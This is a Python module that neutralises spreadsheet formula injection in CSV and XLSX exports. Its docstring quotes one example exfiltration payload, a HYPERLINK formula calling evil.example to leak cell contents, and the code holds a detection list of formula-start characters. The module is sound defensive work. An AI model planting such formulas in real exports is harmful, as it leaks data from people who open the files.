"""Every CSV and XLSX export writes its cells through here, so text can never become a live formula.

A service, unit or reason typed as `=HYPERLINK("http://evil.example/?leak="&A2,"klik")` would otherwise be
a working formula for whoever opens the export in Excel or LibreOffice (issue 14, "CSV/formula
injection"). Text that a spreadsheet would read as a formula (first character `=`, `+`, `-`, `@`, tab or
carriage return, also after leading spaces, or their full-width forms) is neutralised:

* CSV: the cell gets a leading apostrophe (the OWASP recommendation): `'=HYPERLINK(...)` is text.
* XLSX: the cell keeps the exact text but is written as a string cell with Excel's quote prefix, so it is
  shown as typed, read back as text, and stays text even when someone edits the cell.

Numbers (int, float, Decimal) are never touched: `-5` stays a number in both formats; only text is.
A test (tests/security/test_formula_injection.py) fails when a module writes CSV or creates a workbook
without this module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# = + - @ and their full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
CONTROL_STARTS = ("\t", "\r", "\n")


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet program could evaluate (never for numbers)."""
    if not isinstance(value, str) or not value:
        return False
    if value.startswith(CONTROL_STARTS):
        return True
    first = value.lstrip(" \t\r\n")[:1]
    return bool(first) and first in FORMULA_STARTS


def csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    return "'" + value if is_formula_like(value) else value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """CSV (RFC 4180 quoting, `\\r\\n` line ends) of the rows, every cell neutralised; None is empty."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return buffer.getvalue()


def new_workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """The value itself, or for formula-like text a string cell with the quote prefix."""
    if not is_formula_like(value):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
    cell.quotePrefix = True
    return cell


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` for ordinary and write-only worksheets, every cell neutralised."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def xlsx_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
